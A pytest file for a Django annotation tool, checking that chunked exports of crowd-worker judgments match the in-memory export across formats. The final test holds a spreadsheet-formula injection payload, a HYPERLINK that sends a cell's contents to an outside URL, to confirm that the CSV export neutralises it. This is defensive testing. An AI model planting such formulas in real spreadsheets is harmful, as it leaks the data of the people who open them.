"""Streamed judgment exports: the same file as the in-memory export, in bounded chunks."""

import io
from datetime import UTC, datetime

import pandas as pd
import pyarrow.parquet as pq
import pytest
from django.core.management import call_command
from django.db.models import JSONField, Value

from annotation.exports import FORMATS, frame_write, judgments_export, judgments_export_frame
from annotation.models import Judgment, Participation
from tests.factories import (
    AssignmentFactory,
    CampaignFactory,
    ItemFactory,
    JudgmentFactory,
)

JSON_NULL = Value(None, output_field=JSONField())  # None alone would be SQL NULL


def _campaign_with(values: list, *, presentations: list | None = None, blocked: int = -1):
    """A campaign with one judgment per value, by three workers in turn over four items."""
    campaign = CampaignFactory()
    items = ItemFactory.create_batch(4, campaign=campaign)
    ItemFactory(campaign=campaign, gold={"empathy": [5]})  # gold checks never leave
    assignments = [AssignmentFactory(campaign=campaign) for _ in range(3)]
    if blocked >= 0:
        Participation.objects.create(
            campaign=campaign, worker=assignments[blocked].worker, soft_blocked=True
        )
    for n, value in enumerate(values):
        JudgmentFactory(
            assignment=assignments[n % 3],
            item=items[(n // 3) % 4],
            question=f"q{n // 12}",
            value=JSON_NULL if value is None else value,
            presentation=(presentations or [{}] * len(values))[n],
            time_spent_ms=1000 + n,
        )
    # Timestamps whose microseconds end in zeros (the database may shorten their text).
    for moment, judgment in zip(MOMENTS, Judgment.objects.order_by("pk"), strict=False):
        Judgment.objects.filter(pk=judgment.pk).update(created_at=moment)
    return campaign


MOMENTS = [
    datetime(2025, 1, 31, 12, 0, 0, tzinfo=UTC),
    datetime(2025, 1, 31, 12, 0, 1, 120000, tzinfo=UTC),
    datetime(2025, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),
]


def _same_file(campaign, tmp_path, fmt: str, **options) -> None:
    reference = frame_write(judgments_export_frame(campaign, **options), tmp_path / "a", fmt)
    streamed = tmp_path / "b"
    rows = judgments_export(campaign, streamed, fmt, chunk_rows=5, **options)
    if fmt == "parquet":
        old, new = pq.read_table(reference), pq.read_table(streamed)
        assert new.schema.equals(old.schema, check_metadata=True)
        assert new.equals(old)
        if rows:
            assert pq.ParquetFile(streamed).num_row_groups == -(-rows // 5)  # one per chunk
        pd.testing.assert_frame_equal(pd.read_parquet(streamed), pd.read_parquet(reference))
    else:
        assert streamed.read_bytes() == reference.read_bytes()
    assert rows == len(judgments_export_frame(campaign, **options))


MIXES = {
    "likert": [1, 2, 3, 4, 5] * 4,
    "choices": ["first", "second", "both", "neither"] * 5,
    # A list appears only in the last chunk: every earlier chunk must be JSON-encoded too.
    "labels late": ["joy", "anger", "fear"] * 5 + [["joy", "surprise"]],
    "ints then a float": [1, 2, 3] * 5 + [2.5],
    "ints and None": [1, None, 3] * 5,
    "text, numbers, booleans": ["a", 1, True, 2.5, None, "b"] * 3,
    "objects": [{"u1": "joy", "u2": "sad"}, {"u1": "ünïcode ✓"}] * 6,
    "lists of one length": [["joy", "fear"], ["sad", "joy"]] * 6,
}


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("mix", MIXES)
def test_streamed_export_is_the_in_memory_export(tmp_path, fmt, mix):
    values = MIXES[mix]
    presentations = [{"order": ["b", "a"] if n % 2 else ["a", "b"]} for n in range(len(values))]
    campaign = _campaign_with(values, presentations=presentations)
    _same_file(campaign, tmp_path, fmt)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("include_flagged", [False, True])
def test_streamed_export_leaves_out_or_marks_soft_blocked_workers(tmp_path, fmt, include_flagged):
    campaign = _campaign_with([1, 2, 3, 4, 5, 1, 2] * 3, blocked=1)
    _same_file(campaign, tmp_path, fmt, include_flagged=include_flagged)
    frame = judgments_export_frame(campaign, include_flagged=include_flagged)
    assert frame["flagged"].any() == include_flagged


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_a_campaign_without_judgments_exports_the_empty_table(tmp_path, fmt):
    campaign = CampaignFactory()
    ItemFactory(campaign=campaign)
    _same_file(campaign, tmp_path, fmt)


@pytest.mark.django_db
def test_export_command_streams_every_judgment_once(tmp_path):
    campaign = _campaign_with(list(range(1, 6)) * 9)
    other = CampaignFactory()  # another campaign's judgments stay out
    JudgmentFactory(assignment=AssignmentFactory(campaign=other))
    out = tmp_path / "j.csv"
    stdout = io.StringIO()
    call_command("export", campaign.slug, "--out", str(out), stdout=stdout)
    assert stdout.getvalue().startswith("wrote 45 judgments")
    frame = pd.read_csv(out)
    assert len(frame) == 45 and frame["time_spent_ms"].is_unique
    assert set(frame["campaign"]) == {campaign.slug}
    assert (
        out.read_bytes()
        == frame_write(judgments_export_frame(campaign), tmp_path / "ref.csv", "csv").read_bytes()
    )


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_only_the_exported_rows_decide_how_a_column_is_written(tmp_path, fmt):
    # The soft-blocked worker (every third judgment from the second) alone gave lists.
    values = [["joy", "fear"] if n % 3 == 1 else "joy" for n in range(18)]
    campaign = _campaign_with(values, blocked=1)
    _same_file(campaign, tmp_path, fmt)
    _same_file(campaign, tmp_path, fmt, include_flagged=True)


def _ab_campaign():
    """An A/B campaign: each answer once, the choices shown in either order."""
    campaign = CampaignFactory(protocol="pairwise", parameters={})
    payload = {"context": ["hi"], "model_a": "alpha", "response_a": "x", "model_b": "beta"}
    item = ItemFactory(campaign=campaign, payload=payload | {"response_b": "y"})
    shown = [
        ("first", ["a", "b"], "alpha"),
        ("first", ["b", "a"], "beta"),
        ("second", ["b", "a"], "alpha"),
        ("both", ["a", "b"], "both"),
        ("neither", ["b", "a"], "neither"),
    ]
    for choice, order, _winner in shown:
        JudgmentFactory(
            assignment=AssignmentFactory(campaign=campaign),
            item=item,
            question="choice",
            value=choice,
            presentation={"order": order},
        )
    return campaign, [winner for *_, winner in shown]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_the_a_b_export_names_the_model_chosen_in_either_order(tmp_path, fmt):
    campaign, expected = _ab_campaign()
    assert judgments_export_frame(campaign)["winner"].tolist() == expected
    _same_file(campaign, tmp_path, fmt)
    path = tmp_path / f"ab.{fmt}"
    judgments_export(campaign, path, fmt, chunk_rows=2)
    read = {"csv": pd.read_csv, "jsonl": lambda p: pd.read_json(p, lines=True)}
    frame = read.get(fmt, pd.read_parquet)(path)
    assert frame["winner"].tolist() == expected


@pytest.mark.django_db
def test_the_winner_is_empty_for_a_protocol_that_compares_no_models(tmp_path):
    campaign = _campaign_with([1, 2, 3, 4])
    assert judgments_export_frame(campaign)["winner"].isna().all()
    judgments_export(campaign, tmp_path / "l.csv", "csv", chunk_rows=3)
    assert pd.read_csv(tmp_path / "l.csv")["winner"].isna().all()


@pytest.mark.django_db
def test_a_formula_in_a_workers_words_is_text_in_the_csv_and_raw_in_jsonl(tmp_path):
    formula = '=HYPERLINK("http://example.org/?"&A2, "more")'
    campaign = _campaign_with([formula, "-1 reason", 3])
    csv_path = tmp_path / "judgments.csv"
    judgments_export(campaign, csv_path, "csv", chunk_rows=2)
    values = pd.read_csv(csv_path, dtype=str)["value"].tolist()
    assert f"'{formula}" in values and "'-1 reason" in values and "3" in values
    jsonl_path = tmp_path / "judgments.jsonl"
    judgments_export(campaign, jsonl_path, "jsonl")
    assert formula in pd.read_json(jsonl_path, lines=True)["value"].tolist()
    in_memory = frame_write(judgments_export_frame(campaign), tmp_path / "memory", "csv")
    assert in_memory.read_bytes() == csv_path.read_bytes()
